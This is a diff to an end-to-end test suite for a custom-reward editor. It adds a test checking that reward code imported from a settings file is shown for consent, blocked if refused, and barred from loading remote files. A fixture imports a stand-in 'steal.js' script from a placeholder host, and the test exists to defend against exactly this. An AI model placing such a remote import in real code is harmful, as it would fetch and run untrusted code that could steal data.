@@ -234,11 +234,11 @@ describe('own rewards', () => {
       await code.fill('function reward({ objects }) {\n  return objects.missing.length;\n}');
       await dialog.locator('.gutter .marked').waitFor();
       expect(await dialog.locator('.gutter .marked').innerText()).toBe('2');
-      expect(await rows.first().innerText()).toContain('The function failed · line 2, column 26');
+      expect(await rows.first().innerText()).toContain('The function failed · line 2, column 25');
 
       await code.fill('function reward() {\n  const a = 1;\n  return (a +;\n}');
       await dialog.getByTestId('trial-fault').waitFor();
-      expect(await dialog.getByTestId('trial-fault').innerText()).toMatch(/The code cannot be loaded · line 3, column 14\s+SyntaxError: Unexpected token/);
+      expect(await dialog.getByTestId('trial-fault').innerText()).toMatch(/The code cannot be loaded · line 3, column 14\s+SyntaxError: unexpected token/);
       expect(await dialog.locator('.gutter .marked').innerText()).toBe('3');
       await dialog.getByTestId('fault-place').click();
       expect(await code.evaluate((area: HTMLTextAreaElement) => [area === document.activeElement, area.value.slice(area.selectionStart)])).toEqual([true, ';\n}']);
@@ -262,6 +262,35 @@ describe('own rewards', () => {
       await dialog.getByTestId('rewards-dialog-close').click();
       await page.getByTestId('close-settings').click();
       expect(await page.getByTestId('method-card').innerText()).toContain('+ my_own');
+    });
+  });
+
+  it('that come from a file are shown first and run only when that was agreed to, once', async () => {
+    await visit(async (page) => {
+      await ready(page, 'grpo');
+      const started: string[] = [];
+      page.on('worker', (worker) => started.push(worker.url()));
+      const source = "export * from 'https://example.invalid/steal.js';\nexport default () => 1;";
+      const buffer = Buffer.from(JSON.stringify({ method: 'grpo', custom_rewards: [{ name: 'theirs', source }] }));
+      const bring = () => page.getByTestId('import-settings').setInputFiles({ name: 's.json', mimeType: 'application/json', buffer });
+      await bring();
+      expect(await page.getByTestId('consent-text').innerText()).toBe(source);
+      await page.getByTestId('consent-refuse').click();
+      await page.getByText('the code was not agreed to').waitFor();
+      expect(await page.getByTestId('method-card').innerText()).not.toContain('theirs');
+      expect(started).toEqual([]);
+
+      await bring();
+      await page.getByTestId('consent-agree').click();
+      await page.getByText('+ theirs').first().waitFor();
+      await page.getByTestId('open-settings').click();
+      await page.getByTestId('edit-rewards').click();
+      expect(await page.getByTestId('trial-fault').innerText()).toContain('A reward cannot load other files');
+      await page.getByTestId('rewards-dialog-close').click();
+      await page.getByTestId('close-settings').click();
+      await bring();
+      await page.getByTestId('toast').first().waitFor();
+      expect(await page.getByTestId('code-consent').count()).toBe(0);
     });
   });
 });
